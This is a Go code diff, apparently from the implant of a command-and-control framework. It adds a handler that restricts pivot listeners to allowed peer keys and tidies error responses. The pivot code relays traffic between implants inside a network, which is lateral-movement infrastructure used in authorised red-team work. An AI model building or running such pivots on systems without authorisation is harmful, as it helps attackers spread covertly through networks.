@@ -35,6 +35,7 @@ var (
 		pb.MsgPivotListenersReq:     pivotListenersHandler,
 		pb.MsgPivotStartListenerReq: pivotStartListenerHandler,
 		pb.MsgPivotStopListenerReq:  pivotStopListenerHandler,
+		pb.MsgPivotAllowPeersReq:    pivotAllowPeersHandler,
 		pb.MsgPivotPeerEnvelope:     pivotPeerEnvelopeHandler,
 	}
 )
@@ -60,7 +61,7 @@ func pivotStartListenerHandler(envelope *pb.Envelope, connection *transports.Con
 	resp := &pb.PivotListener{Response: &commonpb.Response{}}
 	err := proto.Unmarshal(envelope.Data, req)
 	if err != nil {
-		resp.Response.Err = err.Error()
+		resp.Response = pb.ErrorResponse(err)
 		data, _ := proto.Marshal(resp)
 		connection.Send <- &pb.Envelope{
 			ID:   envelope.ID,
@@ -72,7 +73,7 @@ func pivotStartListenerHandler(envelope *pb.Envelope, connection *transports.Con
 	if createListener, ok := pivots.SupportedPivotListeners[req.Type]; ok {
 		listener, err := createListener(req.BindAddress, connection.Send, req.Options...)
 		if err != nil {
-			resp.Response.Err = err.Error()
+			resp.Response = pb.ErrorResponse(err)
 			data, _ := proto.Marshal(resp)
 			connection.Send <- &pb.Envelope{
 				ID:   envelope.ID,
@@ -80,6 +81,8 @@ func pivotStartListenerHandler(envelope *pb.Envelope, connection *transports.Con
 			}
 			return
 		}
+		listener.Key = req.Key
+		listener.SetAllowedPeerKeys(req.AllowedPeerKeys)
 		go listener.Start()
 		pivots.AddListener(listener)
 		data, _ := proto.Marshal(listener.ToProtobuf())
@@ -89,6 +92,7 @@ func pivotStartListenerHandler(envelope *pb.Envelope, connection *transports.Con
 		}
 	} else {
 		resp.Response.Err = "Unsupported pivot listener type"
+		resp.Response.ErrCode = commonpb.ErrorCode_INVALID_ARGUMENT
 		data, _ := proto.Marshal(resp)
 		connection.Send <- &pb.Envelope{
 			ID:   envelope.ID,
@@ -97,12 +101,39 @@ func pivotStartListenerHandler(envelope *pb.Envelope, connection *transports.Con
 	}
 }
 
+func pivotAllowPeersHandler(envelope *pb.Envelope, connection *transports.Connection) {
+	req := &pb.PivotAllowPeersReq{}
+	resp := &pb.PivotListener{Response: &commonpb.Response{}}
+	err := proto.Unmarshal(envelope.Data, req)
+	if err != nil {
+		resp.Response = pb.ErrorResponse(err)
+		data, _ := proto.Marshal(resp)
+		connection.Send <- &pb.Envelope{
+			ID:   envelope.ID,
+			Data: data,
+		}
+		return
+	}
+	listener, err := pivots.AllowPeers(req.ListenerID, req.AllowedPeerKeys)
+	if err != nil {
+		resp.Response = pb.ErrorResponse(err)
+	} else {
+		resp = listener.ToProtobuf()
+		resp.Response = &commonpb.Response{}
+	}
+	data, _ := proto.Marshal(resp)
+	connection.Send <- &pb.Envelope{
+		ID:   envelope.ID,
+		Data: data,
+	}
+}
+
 func pivotStopListenerHandler(envelope *pb.Envelope, connection *transports.Connection) {
 	req := &pb.PivotStopListenerReq{}
 	resp := &pb.PivotListener{Response: &commonpb.Response{}}
 	err := proto.Unmarshal(envelope.Data, req)
 	if err != nil {
-		resp.Response.Err = err.Error()
+		resp.Response = pb.ErrorResponse(err)
 		data, _ := proto.Marshal(resp)
 		connection.Send <- &pb.Envelope{
 			ID:   envelope.ID,